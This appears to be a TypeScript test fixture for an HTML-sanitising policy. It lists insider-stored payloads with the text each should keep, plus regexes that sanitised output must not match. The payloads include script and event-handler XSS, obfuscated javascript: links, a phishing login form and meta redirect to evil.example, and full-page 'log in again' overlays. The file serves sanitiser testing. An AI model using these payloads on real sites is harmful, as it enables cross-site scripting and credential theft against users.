/**
 * HTML an insider might store in a notification, an HTML card, a manual page or a contact text, with what must
 * not survive sanitising. One list for the server's sanitiser (sanitize-html) and the browser's (DOMPurify), so
 * both are held to the same policy (`htmlPolicy.ts`).
 */
export interface HtmlPayload {
  name: string;
  html: string;
  /** Text of the payload that stays readable after sanitising. */
  keeps?: string;
}

export const htmlPayloads: readonly HtmlPayload[] = [
  {
    name: 'a form posting elsewhere with an input and a button',
    html: '<form action="https://evil.example/"><input name="password" type="password"><button>Anmelden</button></form><p>Hinweis</p>',
    keeps: 'Hinweis',
  },
  { name: 'a style element', html: '<style>body{display:none}</style><p>Text</p>', keeps: 'Text' },
  {
    name: 'a full-page overlay by position:fixed',
    html: '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999;background:#fff">Bitte neu anmelden</div>',
    keeps: 'Bitte neu anmelden',
  },
  { name: 'an overlay by position:absolute', html: '<p style="POSITION : absolute ;color:red">Absolut</p>', keeps: 'Absolut' },
  { name: 'an overlay by a class of the page', html: '<div class="MuiBackdrop-root MuiModal-root">Modal</div>', keeps: 'Modal' },
  { name: 'an iframe', html: '<iframe src="https://evil.example/"></iframe><p>Rahmen</p>', keeps: 'Rahmen' },
  { name: 'a script', html: '<p>Skript</p><script>alert(1)</script>', keeps: 'Skript' },
  { name: 'an event handler', html: '<img src="/a.png" onerror="alert(1)"><b onmouseover="alert(1)">fett</b>', keeps: 'fett' },
  { name: 'a javascript: link', html: '<a href="javascript:alert(document.domain)">Klick</a>', keeps: 'Klick' },
  { name: 'a javascript: link with a tab in its scheme', html: '<a href="java\tscript:alert(1)">Tab</a>', keeps: 'Tab' },
  { name: 'a data: link', html: '<a href="data:text/html,<script>alert(1)</script>">Daten</a>', keeps: 'Daten' },
  { name: 'a select and a textarea', html: '<select><option>a</option></select><textarea>b</textarea><p>Felder</p>', keeps: 'Felder' },
  { name: 'an SVG with a script', html: '<svg><script>alert(1)</script></svg><p>Bild</p>', keeps: 'Bild' },
  { name: 'an object and an embed', html: '<object data="/x.swf"></object><embed src="/x.swf"><p>Objekt</p>', keeps: 'Objekt' },
  { name: 'a meta refresh and a base', html: '<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"><p>Meta</p>', keeps: 'Meta' },
  { name: 'a CSS url in a style attribute', html: '<p style="background-image:url(https://evil.example/x.png)">Bildstil</p>', keeps: 'Bildstil' },
]; // prettier-ignore

/** What no sanitised payload may contain (checked on the HTML text, case-insensitive). */
export const forbiddenInSanitisedHtml: readonly RegExp[] = [
  /<\s*(?:form|input|button|select|option|textarea|style|iframe|frame|script|svg|object|embed|meta|base|link)\b/i,
  /position\s*:/i,
  /z-index/i,
  /url\s*\(/i,
  /\son[a-z]+\s*=/i,
  /(?:java\s*script|data)\s*:/i,
  /Mui/,
];

/** HTML the policy keeps as it is (formatting, tables, links, images, the manual's note boxes, coloured text). */
export const allowedHtml =
  '<h3>Titel</h3><p>Die <strong>neue</strong> <em>Version</em> <span style="color:#c00">rot</span>:</p>' +
  '<ul><li><a href="/docs/1000">Handbuch</a></li><li><a href="https://www.sparkasse.de/">Sparkasse</a></li>' +
  '<li><a href="mailto:radar@example.org">Mail</a></li></ul><div class="confluence-info" role="note">Info</div>' +
  '<table><tbody><tr><td colspan="2">Zelle</td></tr></tbody></table><img src="/media/a.png" alt="Logo">';
